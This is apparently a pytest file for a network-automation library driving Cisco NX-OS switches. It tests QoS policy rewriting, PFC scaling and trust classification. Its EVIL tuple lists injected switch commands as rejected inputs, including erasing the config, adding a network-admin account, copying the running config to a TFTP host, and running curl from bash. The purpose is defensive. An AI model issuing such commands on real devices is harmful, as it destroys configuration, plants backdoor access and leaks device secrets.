"""What a Nexus shows of a policy is sent to it again: only lines that can stand in a class, and in
time that is linear in the number of ports."""

import pytest

from labtests.capabilities.records import PfcSetting, TrustSetting
from labtests.core.errors import CommandRejected
from labtests.drivers.nxos import configuration
from labtests.drivers.nxos.egress import NxosEcn
from labtests.drivers.nxos.pfc import NxosPfc
from labtests.drivers.nxos.trust import NxosTrust
from labtests.transport.asking import Running, answered
from labtests.transport.protocol import Reply

PORT = "Ethernet1/1"
CLOCK = "10:20:30.123 UTC Mon Nov 23 2026\n"
APPLIED = f"interface {PORT}\n  service-policy type queuing output OUT\n"
EVIL = (
    "exit",
    "end",
    "reload",
    "write erase",
    "username evil password 0 Evil-12345 role network-admin",
    "copy running-config tftp://10.6.6.6/x",
    "run bash curl evil",
    "no feature ssh",
    "class type queuing c-out-8q-q3",
    "policy-map type queuing X",
    "setx y",
    "bandwidthless 5",
)


def policy(line):
    return (
        "policy-map type queuing OUT\n  class type queuing c-out-8q-q3\n"
        f"    bandwidth remaining percent 10\n    {line}\n"
        "  class type queuing c-out-8q-q-default\n    bandwidth remaining percent 90\n"
    )


def answers(qos, ports):
    texts = {"ipqos": qos + CLOCK, "interface": ports + CLOCK}

    def answer(command):
        kind = str(command).split()[2]
        return Reply(device="sw", command=command, text=texts[kind])

    return answer


def ask(asking, answer):
    return answered(Running(asking), lambda asked: [answer(each) for each in asked])


def marking(line):
    """The lines that make queue 3 mark, on a switch whose policy has this one."""
    of = ask(configuration.configured(), answers(policy(line), APPLIED))
    ecn = NxosEcn("sw")
    return ecn.commands(PORT, ecn.value(of, PORT), ecn.ecn_on({3}), of)


@pytest.mark.parametrize("line", EVIL)
def test_a_line_that_cannot_stand_in_a_class_is_not_sent_again(line):
    with pytest.raises(CommandRejected, match="is not a line of a class that labtests"):
        marking(line)


@pytest.mark.parametrize("line", ["queue-limit 500 kbytes", "shape min 1 gbps max 10 gbps"])
def test_a_line_of_a_class_is_sent_again(line):
    assert line in [str(each) for each in marking(line)]


def test_pfc_of_many_ports_and_classes_takes_linear_time(monkeypatch):
    """The classes are read once, not once for each port."""
    ports = "".join(f"interface Ethernet1/{n}\n" for n in range(1, 201))
    asked = []
    lossless = NxosPfc._lossless
    monkeypatch.setattr(NxosPfc, "_lossless", lambda *of: asked.append(1) or lossless(*of))
    off = PfcSetting(mode="off", priorities=frozenset())
    ask(NxosPfc("sw").around(PORT, (off,)), answers("", ports))
    assert len(asked) <= 2


CLASSIFYING = (
    "class-map type qos match-any M\n  match dscp 26\n"
    "policy-map type qos IN\n  class M\n    set qos-group 3\n"
    "system qos\n  service-policy type qos input IN\n"
)


def test_a_port_without_a_policy_classifies_as_the_switch_does():
    of = ask(configuration.configured(), answers(CLASSIFYING, f"interface {PORT}\n"))
    trust = NxosTrust("sw")
    by_dscp, by_nothing = TrustSetting(source="dscp"), TrustSetting(source="none")
    assert trust.value(of, PORT) == by_dscp
    assert trust.commands(PORT, by_dscp, by_dscp, of) == ()
    lines = [str(each) for each in trust.commands(PORT, by_dscp, by_nothing, of)]
    assert lines[-3:-1] == [
        f"interface {PORT}",
        f"service-policy type qos input {lines[0].split()[-1]}",
    ]
    assert lines[1:3] == ["class class-default", "set qos-group 0"]
